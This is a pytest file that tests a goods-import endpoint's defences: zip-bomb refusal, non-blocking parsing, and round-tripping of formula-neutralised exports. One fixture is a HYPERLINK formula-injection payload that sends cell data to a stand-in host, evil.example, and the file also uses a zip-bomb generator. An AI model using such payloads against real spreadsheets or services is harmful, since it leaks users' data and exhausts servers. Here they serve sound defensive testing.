"""The goods import against hostile files (audit item 3) and the export's formula neutralisation
on the way back in (item 4): a small file that unpacks to 132 MB is refused before openpyxl sees
it, the workbook is parsed off the event loop (the app answers /healthz meanwhile), and an export
whose names start with "=" imports again as it was."""

from __future__ import annotations

import pytest
from openpyxl.reader.excel import ExcelReader

from server.masterdata.services import goods
from server.masterdata.tables import Goods, GoodsPrice
from tests.conftest import api_login
from tests.masterdata.helpers import basics, chain, error_of, make_goods
from tests.masterdata.test_goods_import import URL, XLSX, row, upload, xlsx
from tests.xlsx_helpers import Gate, healthz_while_held, zip_bomb

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
async def cats(tenant) -> dict:
    return await basics(tenant)


async def goods_state() -> tuple:
    return await Goods.select().order_by(Goods.id), await GoodsPrice.select().order_by(GoodsPrice.id)


async def test_a_zip_bomb_is_refused_before_it_is_parsed(client, admin, tenant, cats, monkeypatch):
    def never(*args, **kwargs):
        raise AssertionError("openpyxl was given the file")

    monkeypatch.setattr(ExcelReader, "read", never)
    before = await goods_state()
    bomb = zip_bomb()  # 0.3 MB whose shared strings unpack to 132 MB
    assert len(bomb) < 1_000_000
    body = error_of(await upload(client, admin, bomb), 400, "file_too_large_unpacked")
    assert body["detail"] == "文件解压后过大（超过 100 MB），请拆分后再导入"
    # a body over the upload limit is refused by the HTTP layer before it is even read
    error_of(await upload(client, admin, b"PK" + bytes(11_000_000)), 413, "too_large")
    assert await goods_state() == before


async def test_the_app_answers_while_an_import_is_parsed(client, admin, tenant, cats, monkeypatch):
    gate = Gate(monkeypatch, ExcelReader, "read")
    response = healthz_while_held(
        client, gate, "POST", f"{URL}/import", files={"file": ("g.xlsx", xlsx([row("G1")]), XLSX)}, headers=admin
    )
    assert response.status_code == 200, response.text
    assert response.json() == {"imported": 1}


async def test_a_neutralised_export_imports_again_as_it_was(client, admin, tenant, other_tenant, cats):
    names = {"F1": HYPERLINK, "F2": "+1", "F3": "-2", "F4": "@SUM(A1)", "F5": "'=1"}
    for code, name in names.items():
        await make_goods(tenant, code, cats["iphone15"], name=name, spec=name)
    exported = (await client.get(f"{URL}/export", headers=admin)).content
    await chain(other_tenant, "category", "Apple", "iPhone", "iPhone 15")
    response = await upload(client, await api_login(client, "admin@OTHER"), exported)
    assert response.status_code == 200, response.text
    theirs = {g["code"]: (g["name"], g["spec"]) for g in (await goods.search(other_tenant)).items}
    assert theirs == {code: (name, name) for code, name in names.items()}
